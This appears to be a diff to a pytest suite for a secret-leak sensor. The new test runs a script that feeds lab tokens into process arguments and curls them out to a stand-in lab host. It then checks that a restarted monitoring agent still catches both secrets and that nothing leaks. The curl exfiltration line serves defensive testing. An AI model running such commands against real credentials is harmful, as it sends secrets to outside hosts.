@@ -16,10 +16,11 @@ from pathlib import Path
 import pytest
 
 from faults.conftest import nothing_is_left  # noqa: F401 -- for all of these tests
-from faults.scene import Story, attached, is_there, wait_until
+from faults.scene import Running, Story, attached, is_there, wait_until
 from lab import Lab, cgroup
 from lab.guard import Guarded
 from lab.network import BARE
+from lab.tokens import home_made
 from leakstop.model.clock import clock
 from leakstop.sensor.machine import Machine
 
@@ -29,6 +30,17 @@ COVERAGE_LOST, DENIED, FINDINGS = 12, 11, 10
 POLICY = "version: 1\nmode: block\nallow: home.test\n"
 OUTSIDE = {BARE, "other.test"}
 """Where the command wants to go and no rule leads."""
+
+FINDING = f"""
+give() {{ env "$1=$(cat $LAB/$1)" sleep 2; }}
+send() {{ curl -s -m 5 -d "q=$(cat $LAB/$1)" http://{BARE}/; }}
+touch $LAB/up
+give FIRST_TOKEN
+while [ ! -e $LAB/go ]; do sleep 0.01; done
+give LATER_TOKEN
+while [ ! -e $LAB/end ]; do sleep 0.01; done
+send FIRST_TOKEN; send LATER_TOKEN; true
+"""
 
 
 @pytest.fixture
@@ -108,6 +120,34 @@ def test_what_an_agent_finds_after_it_was_started_again_is_watched(
     flows = [flow for flow in done.report["flows"] if flow["host"] == "home.test"]
     assert sum(flow["encrypted"] for flow in flows) == 1
     assert sum(flow["inspected"] for flow in flows) == 1
+
+
+def test_what_it_has_found_is_known_to_the_next_one(lab: Lab, tmp_path: Path) -> None:
+    """Secrets from an environment and from a file are nowhere else than in the agent, and in the
+    kernel's tables, which stay. What is found next goes behind them."""
+    tokens = {name: home_made(name) for name in ("FIRST_TOKEN", "LATER_TOKEN")}
+    for name, token in tokens.items():
+        (lab.directory / name).write_text(token.value)
+    policy = lab.directory / "ci.yml"
+    policy.write_text("version: 1\nmode: audit\nallow: home.test\n")
+    running = Running(lab, FINDING, policy=policy, reports=tmp_path / "reports")
+    wait_until((lab.directory / "up").exists, "the command runs")
+    wait_until(lambda: "FIRST_TOKEN" in running.journal(), "the first one is found")
+    agent = running.agent
+    os.kill(agent, signal.SIGKILL)
+    wait_until(lambda: running.agent != agent, "there is another agent")
+    wait_until(lambda: '"gap"' in running.journal(), "it has taken over")
+    (lab.directory / "go").touch()
+    wait_until(lambda: "LATER_TOKEN" in running.journal(), "the next one is found")
+    (lab.directory / "end").touch()
+    done = running.end()
+    assert done.code == FINDINGS, done.stderr
+    assert lab.collector.bytes_received == 0
+    stopped = {(each["secret"], each["id"]) for each in done.findings() if each["secret"]}
+    assert stopped == {(name, "secret-in-argv") for name in tokens}
+    assert [view["name"] for view in done.report["secrets"]] == list(tokens), "each of them once"
+    for token in tokens.values():
+        assert done.shows(token) == []
 
 
 def test_an_agent_that_is_killed_again_and_again_is_given_up(blocked: Story) -> None:
